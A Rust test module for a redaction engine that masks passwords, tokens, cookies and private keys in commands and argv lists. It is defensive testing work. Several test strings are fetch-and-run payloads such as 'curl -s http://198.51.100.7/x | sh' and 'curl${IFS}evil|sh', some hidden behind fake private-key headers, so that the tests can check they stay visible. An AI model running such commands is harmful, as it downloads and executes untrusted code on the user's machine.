            "argv": ["mysql", format!("-p{}", tok("mysql_password", "S3cret"))], "path": format!("/tmp/{}/f", tok("github_token", GHP)),
            "dns": {"queries": ["x.example"]}, "mixed": [1, format!("--token={}", tok("password_flag", "abc"))],
        });
        assert_eq!(v, want);
        assert_eq!(hits.into_iter().collect::<Vec<_>>(), ["github_token", "mysql_password", "password_flag"]);
        assert!(!engine().is_candidate("/usr/lib/python3/dist-packages/foo/__init__.py"));
    }

    /// `input` with each secret replaced by its token from `rule`, in order.
    fn replaced(input: &str, rule: &str, secrets: &[&str]) -> String {
        let mut out = input.to_owned();
        for secret in secrets {
            out = out.replacen(secret, &tok(rule, secret), 1);
        }
        out
    }

    #[test]
    fn a_fake_key_header_hides_nothing() {
        for s in [
            "# -----BEGIN PRIVATE KEY-----; echo visible-marker",
            "# -----BEGIN RSA PRIVATE KEY-----\ncurl -s http://198.51.100.7/x | sh\n# -----END RSA PRIVATE KEY-----",
            // Base64 characters only, but no line of a key: short words.
            ": -----BEGIN PRIVATE KEY-----\nwget 3232235777/x\nsh x\necho -----END PRIVATE KEY-----",
            ": -----BEGIN PRIVATE KEY-----\nreboot -----END PRIVATE KEY-----",
            ": -----BEGIN PRIVATE KEY----- sh x",
            // A header line is no place for a command either: it stays visible.
            ": -----BEGIN PRIVATE KEY-----\nComment: x; curl -s http://198.51.100.7/x | sh\n-----END PRIVATE KEY-----",
            "echo '-----BEGIN PRIVATE KEY-----' > /tmp/k; cat /etc/hostname",
        ] {
            assert_eq!(text(s), (s.to_owned(), vec![]), "{s}");
        }
        let script = "# -----BEGIN PRIVATE KEY-----; echo visible-marker";
        assert_eq!(argv(&["/bin/sh", "-c", script]), (vec!["/bin/sh".into(), "-c".into(), script.into()], vec![]));
        // A real block is replaced, and the script around it stays.
        let block = format!("\n{PEM_LINE}\n{PEM_LINE}\nAbCd==\n");
        let s = format!("echo '-----BEGIN PRIVATE KEY-----{block}-----END PRIVATE KEY-----' > k; echo visible-marker");
        let (out, hits) = text(&s);
        assert_eq!(out, replaced(&s, "private_key", &[&block]));
        assert_eq!(hits, ["large_share", "private_key"]);
    }

    #[test]
    fn key_bodies_in_every_writing() {
        let l = PEM_LINE;
        let cases = [
            // Written `\n` (in an argv the backslash is escaped, `\\n`), indented, CRLF, on one line.
            // (A key is longer than a quoted value may be: `private_key` replaces it, not the
            // value of the name.)
            format!(r#"{{"private_key": "-----BEGIN PRIVATE KEY-----\n{l}\n{l}\n{l}\n{l}\nAbCd\n-----END PRIVATE KEY-----\n"}}"#),
            format!(r"printf '-----BEGIN PRIVATE KEY-----\\n{l}\\nAbCd\\n-----END PRIVATE KEY-----'"),
            format!("key: |\n  -----BEGIN EC PRIVATE KEY-----\n  {l}\n  AbCd\n  -----END EC PRIVATE KEY-----\n"),
            format!("-----BEGIN PRIVATE KEY-----\r\n{l}\r\nAbCd\r\n-----END PRIVATE KEY-----"),
            format!("KEY='-----BEGIN PRIVATE KEY----- {l} AbCd -----END PRIVATE KEY-----'"),
            format!("-----BEGIN PRIVATE KEY-----{l}AbCd-----END PRIVATE KEY-----"),
            // PGP: armour headers (visible), a blank line, the body, its checksum.
            format!("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n{l}\nAbCd\n=x9Yz\n-----END PGP PRIVATE KEY BLOCK-----"),
            // Encrypted (RFC 1421): the headers stay visible.
            format!("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5E2B3C4D\n\n{l}\n-----END RSA PRIVATE KEY-----"),
        ];
        for s in &cases {
            let (out, hits) = text(s);
            assert!(!out.contains(l) && !out.contains("AbCd") && out.contains("-----END"), "{s}\n{out}");
            assert!(hits.contains(&"private_key".to_owned()), "{s}: {hits:?}");
        }
        let (out, _) = text(&cases[6]);
        assert!(out.contains("Version: GnuPG v2"), "{out}");
        let (out, _) = text(&cases[7]);
        assert!(out.contains("Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5E2B3C4D[REDACTED:private_key:"), "{out}");
        // Cut off by a truncated argv, even within the END line; not with only a short line.
        let cut = format!("-----BEGIN PRIVATE KEY-----\n{l}\nAbCd\n-----EN");
        assert_eq!(
            text(&cut).0,
            format!("-----BEGIN PRIVATE KEY-----{}\n-----EN", tok("private_key", &format!("\n{l}\nAbCd")))
        );
        let short = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq";
        assert_eq!(text(short), (short.to_owned(), vec![]));
    }

    #[test]
    fn the_gaps_of_issue_20_are_closed() {
        let cases: &[(&str, &str, &[&str])] = &[
            ("password_option", "curl -u user:hunter2pw https://x", &["hunter2pw"]),
            ("password_option", "curl -u 'user:pass word' https://x", &["pass word"]),
            ("password_option", "curl --proxy-user me:hunter2pw -x http://proxy:3128 https://x", &["hunter2pw"]),
            ("secret_assignment", "curl -H 'X-Api-Key: abc123secret' https://x", &["abc123secret"]),
            ("secret_assignment", "curl -H 'X-Api-Key:abc123secret' https://x", &["abc123secret"]),
            ("secret_assignment", "curl -H 'Private-Token: glxyz0123' https://x", &["glxyz0123"]),
            ("secret_assignment", "curl -H \"X-Auth-Token: abc123\" https://x", &["abc123"]),
            ("cookie", "curl -H 'Cookie: session=abc123secret; theme=dark' https://x", &["abc123secret", "dark"]),
            ("cookie", "Set-Cookie: sid=s3cr3tvalue; Path=/; HttpOnly", &["s3cr3tvalue", "/"]),
            ("cookie", "curl -b 'sid=abc123secret' https://x", &["abc123secret"]),
            ("password_option", "docker login -u me -p hunter2pw registry.example.com", &["hunter2pw"]),
            ("password_option", "podman login --username me -phunter2pw quay.io", &["hunter2pw"]),
            (
                "url_token",
                "git clone https://abcdef0123456789abcdef0123456789@github.com/o/r.git",
                &["abcdef0123456789abcdef0123456789"],
            ),
            ("config_value", &format!("aws configure set aws_secret_access_key {AWS}"), &[AWS]),
            (
                "config_value",
                "aws configure set aws_session_token 'IQoJb3JpZ2luX2Vj' --profile p",
                &["IQoJb3JpZ2luX2Vj"],
            ),
            ("config_value", "git config --global github.token abc123secret", &["abc123secret"]),
            ("config_value", "npm config set //registry.npmjs.org/:_authToken npm_abc123", &["npm_abc123"]),
            ("secret_assignment", "password: hunter2pw", &["hunter2pw"]),
            (
                "secret_assignment",
                "cat > c.yml <<EOF\ndb:\n  db_password: \"hunter 2\"\n  user: me\nEOF",
                &["hunter 2"],
            ),
            ("secret_assignment", "python3 -c \"connect({'password': 'hunter2pw', 'host': 'h'})\"", &["hunter2pw"]),
            ("secret_assignment", "connect(**{\"api_key\": \"abc123secret\"})", &["abc123secret"]),
            ("secret_assignment", "password = \"hunter2pw\"", &["hunter2pw"]),
            ("secret_assignment", "$db_password => 'hunter2pw';", &["hunter2pw"]),
            ("secret_assignment", "curl 'https://h/login?user=u&password=hunter2pw&x=1'", &["hunter2pw"]),
            ("secret_assignment", "wget https://h/a?access_token=abc123secret", &["abc123secret"]),
            (
                "secret_assignment",
                "curl 'https://acct.blob.core.windows.net/c/b?sv=2022&sig=AbC%2Bd123%3D'",
                &["AbC%2Bd123%3D"],
            ),
        ];
        for (rule, input, secrets) in cases {
            let want = replaced(input, rule, secrets);
            let got = text(input);
            assert_eq!(got.0, want, "{input}");
            assert_eq!(got.1, if secrets.is_empty() { vec![] } else { vec![(*rule).to_owned()] }, "{input}");
        }
        let s = "git clone https://Zx9Qw8Er7Ty6Ui5Op4As3:x-oauth-basic@h/r";
        assert_eq!(
            text(s),
            (
                format!(
                    "git clone https://{}:{}@h/r",
                    tok("url_token", "Zx9Qw8Er7Ty6Ui5Op4As3"),
                    tok("url_password", "x-oauth-basic")
                ),
                vec!["url_password".into(), "url_token".into()]
            )
        );
        // The same in an argv, each value in the argument after its option or name.
        let tokens = |args: &[&str], rule: &str, secret: &str| -> Vec<String> {
            args.iter().map(|a| a.replacen(secret, &tok(rule, secret), 1)).collect()
        };
        for (rule, args, secret) in [
            ("password_option", &["curl", "-u", "user:hunter2pw", "https://x"][..], "hunter2pw"),
            ("password_option", &["curl", "-uuser:hunter2pw", "https://x"], "hunter2pw"),
            ("secret_assignment", &["curl", "-H", "X-Api-Key: abc123secret", "https://x"], "abc123secret"),
            ("secret_assignment", &["curl", "-H", "X-Api-Key:abc123secret", "https://x"], "abc123secret"),
            ("password_option", &["docker", "login", "-u", "me", "-p", "hunter2pw", "r.example"], "hunter2pw"),
            ("password_option", &["/usr/bin/docker", "login", "--username=me", "-p=hunter2pw"], "hunter2pw"),
            ("config_value", &["aws", "configure", "set", "aws_secret_access_key", AWS], AWS),
            ("config_value", &["git", "config", "--global", "x.token", "a b;c"], "a b;c"),
            ("password_flag", &["mysqldump", "--password=p(a)ss;w|rd", "db"], "p(a)ss;w|rd"),
            ("password_flag", &["curl", "--oauth2-bearer", "abc123secret", "https://x"], "abc123secret"),
        ] {
            assert_eq!(argv(args), (tokens(args, rule, secret), vec![rule.to_owned()]), "{args:?}");
        }
        let (v, hits) = argv(&["curl", "-b", "sid=abc123; theme=dark", "https://x"]);
        assert_eq!(v[2], format!("sid={}; theme={}", tok("cookie", "abc123"), tok("cookie", "dark")));
        assert_eq!(hits, ["cookie"]);
    }

    #[test]
    fn password_options_of_common_tools() {
        let cases: &[(&str, &[&str], &str)] = &[
            (
                "mongosh mongodb://h/db -u admin -p hunter2pw",
                &["mongosh", "mongodb://h/db", "-u", "admin", "-p", "hunter2pw"],
                "hunter2pw",
            ),
            (
                "redis-cli -h cache -a hunter2pw ping",
                &["redis-cli", "-h", "cache", "-a", "hunter2pw", "ping"],
                "hunter2pw",
            ),
            (
                "ldapsearch -x -D cn=admin -w hunter2pw -b dc=x",
                &["ldapsearch", "-x", "-D", "cn=admin", "-w", "hunter2pw"],
                "hunter2pw",
            ),
            (
                "sqlcmd -S db -U sa -P hunter2pw -Q 'select 1'",
                &["sqlcmd", "-S", "db", "-U", "sa", "-Phunter2pw"],
                "hunter2pw",
            ),
            ("zip -P hunter2pw out.zip f", &["zip", "-P", "hunter2pw", "out.zip", "f"], "hunter2pw"),
            ("7z a -phunter2pw out.7z f", &["7z", "a", "-phunter2pw", "out.7z", "f"], "hunter2pw"),
            (
                "ssh-keygen -t ed25519 -N hunter2pw -f k",
                &["ssh-keygen", "-t", "ed25519", "-N", "hunter2pw", "-f", "k"],
                "hunter2pw",
            ),
            (
                "keytool -list -keystore k.jks -storepass hunter2pw",
                &["keytool", "-list", "-storepass", "hunter2pw"],
                "hunter2pw",
            ),
            (
                "openssl rsa -in k -passin pass:hunter2pw",
                &["openssl", "rsa", "-in", "k", "-passin", "pass:hunter2pw"],
                "hunter2pw",
            ),
            ("smbclient //h/s -U me%hunter2pw", &["smbclient", "//h/s", "-U", "me%hunter2pw"], "hunter2pw"),
            ("gh secret set API --body hunter2pw", &["gh", "secret", "set", "API", "--body", "hunter2pw"], "hunter2pw"),
        ];
        for (line, args, secret) in cases {
            assert_eq!(
                text(line),
                (line.replacen(secret, &tok("password_option", secret), 1), vec!["password_option".into()])
            );
            let want: Vec<String> =
                args.iter().map(|a| a.replacen(secret, &tok("password_option", secret), 1)).collect();
            assert_eq!(argv(args), (want, vec!["password_option".into()]), "{args:?}");
        }
    }

    #[test]
    fn ordinary_commands_are_left_alone() {
        for s in [
            "docker run --rm -p 8080:80 nginx; docker login --password-stdin -u me r.example",
            "curl -u user https://x; curl -b cookies.txt -c cookies.txt https://x; curl -U proxyuser https://x",
            "git config --global credential.helper store; git config user.name me; git config --get x.token",
            "aws configure set region us-east-1; aws configure get aws_secret_access_key",
            "ssh-keygen -t ed25519 -N '' -f k; 7z a -p out.7z f; unzip -l x.zip; mongosh -p",
            "tokenizer: bert\nauth: true\nmax_tokens: 4096\npassword: null\nkind: Secret\nimage: my-token:latest",
            "echo \"Enter password: \"; read -s pw",
            "git clone https://deploy-bot-2024-staging@host/r.git https://user@host/x ssh://git@github.com/o/r",
            "openssl enc -pass env:PW -in f; openssl rsa -passin file:/run/pw; openssl req -passout stdin",
            "smbclient -L //h -U me; psql -U postgres -h localhost",
            "if [ \"$password\" == \"\" ]; then exit 1; fi",
            "TOKEN= make build; PASSWORD_FILE=/run/x ./app",
            "https://h/x?design=1&signal=2 https://h/y?sigma=3",
            "Cookie: ",
        ] {
            assert_eq!(text(s), (s.to_owned(), vec![]), "{s}");
        }
        for args in [
            &["docker", "run", "-p", "8080:80", "nginx"][..],
            &["curl", "-u", "user", "https://x"],
            &["curl", "-b", "cookies.txt", "https://x"],
            &["git", "config", "--global", "credential.helper", "store"],
            &["aws", "configure", "set", "region", "us-east-1"],
            &["ssh-keygen", "-N", "", "-f", "k"],
            &["7z", "a", "-p", "out.7z"],
            &["openssl", "enc", "-pass", "env:PW"],
            &["gh", "pr", "create", "--body", "fixes the bug"],
        ] {
            assert_eq!(argv(args), (args.iter().map(|&a| a.to_owned()).collect(), vec![]), "{args:?}");
        }
    }

    #[test]
    fn a_value_is_one_word_or_ends_at_its_quote() {
        // An unquoted value ends at an operator: what follows is another command.
        let s = "app --password=abc;curl${IFS}evil|sh";
        assert_eq!(text(s).0, replaced(s, "password_flag", &["abc"]));
        let s = "DB_PASS=abc&&(curl x)";
        assert_eq!(text(s).0, replaced(s, "secret_assignment", &["abc"]));
        // A quoted value ends at its quote; the rest of the line stays.
        let s = r#"X_TOKEN='echo a; curl evil | sh' && sh -c "$X_TOKEN""#;
        assert_eq!(text(s).0, replaced(s, "secret_assignment", &["echo a; curl evil | sh"]));
        // An unclosed quote, a quote opened in a comment: nothing to the end of the text.
        for s in [
            "# X_TOKEN=\"\ncurl -s http://198.51.100.7/x | sh",
            "echo 'X_TOKEN=\"'; curl -s http://198.51.100.7/x | sh",
            "TOKEN=\"cut off",
        ] {
            assert_eq!(text(s), (s.to_owned(), vec![]), "{s}");
        }
    }

    #[test]
    fn a_replacement_is_bounded() {
        // A quoted phrase of up to 256 bytes, a word of up to 4096: longer is no secret.
        let phrase = |n: usize| "a ".repeat(n / 2);
        let word = |n: usize| "a".repeat(n);
        for (value, redacted) in [(phrase(256), true), (phrase(258), false), (word(4096), true), (word(4097), false)] {
            let s = format!("TOKEN='{value}'; echo visible");
            let (out, hits) = text(&s);
            assert_eq!(out != s, redacted, "{} bytes", value.len());
            assert!(out.ends_with("'; echo visible"));
            assert_eq!(hits.contains(&"secret_assignment".to_owned()), redacted);
            let mut v = vec!["app".to_owned(), "--token".to_owned(), value.clone()];
            let mut hits = Hits::new();
            assert_eq!(engine().argv(&mut v, &mut hits), redacted, "argv, {} bytes", value.len());
        }
        // A PEM body of up to 16 KiB.
        let body = |lines: usize| format!("\n{}", format!("{PEM_LINE}\n").repeat(lines));
        for (lines, redacted) in [(16384 / 65, true), (16384 / 65 + 1, false)] {
            let s = format!("-----BEGIN PRIVATE KEY-----{}-----END PRIVATE KEY-----", body(lines));
            assert_eq!(text(&s).0 != s, redacted, "{lines} lines");
        }
    }

    #[test]
    fn no_pattern_runs_unbounded_to_the_end() {
        let patterns =
            BUILTINS.iter().map(|b| b.pattern.to_owned()).chain(PASSWORD_OPTIONS.iter().flat_map(option_patterns));
        for p in patterns {
            for any in [".*", ".+", ".?", "(?s"] {
                assert!(!p.contains(any), "{p} has {any}");
            }
            compile("t", &p).expect("compiles");
        }
    }

    #[test]
    fn a_large_share_is_marked() {
        let script = "echo one; curl -s http://198.51.100.7/x -o /tmp/x; sh /tmp/x; echo two";
        let cases: &[(&str, bool)] = &[
            (&format!("X_TOKEN='{script}'"), true),
            (&format!("X_TOKEN='{script}'; {script}; {script}"), false),
            ("--password=hunter2", false),
            (GHP, false),
            (&format!("sk-ant-api03-{}", "Ab1".repeat(32)), true),
            (&format!("export GITHUB_TOKEN={GHP}; ls -la /srv/build/output/artifacts/release"), false),
        ];
        for (s, marked) in cases {
            let (_, hits) = text(s);
            assert_eq!(hits.contains(&LARGE_SHARE.to_owned()), *marked, "{s}: {hits:?}");
        }
        // In an argv, per argument: the value of `--token` alone is the whole argument.
        let (_, hits) = argv(&["sh", "-c", "eval \"$1\"", "--token", script]);
        assert_eq!(hits, ["large_share", "password_flag"]);
        let (_, hits) = argv(&["app", "--token", "hunter2", "--verbose"]);
        assert_eq!(hits, ["password_flag"]);
        // The mark is not in the text: a second run reports the rules, not the mark.
        let mut s = format!("X_TOKEN='{script}'");
        let (mut first, mut second) = (Hits::new(), Hits::new());
        engine().text(&mut s, &mut first);
        let once = s.clone();
        assert!(!engine().text(&mut s, &mut second));
        assert_eq!(
            (s, first.len(), second.into_iter().collect::<Vec<_>>()),
            (once, 2, vec!["secret_assignment".to_owned()])
        );
    }

    /// Relative cost of the fast path and of a hit: `cargo test --release -- --ignored --nocapture bench`.
    #[test]
    #[ignore = "benchmark"]
    fn bench_strings() {
        for input in [
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
            "/home/u/.cache/pip/auth/x",
            "--token=abc123",
            "Authorization: Bearer abcdefgh123",
        ] {
            let start = std::time::Instant::now();
            for _ in 0..100_000 {
                engine().text(&mut input.to_owned(), &mut Hits::new());
            }
            println!("{:>8.0} ns  {input}", start.elapsed().as_secs_f64() * 1e4);
        }
    }
}
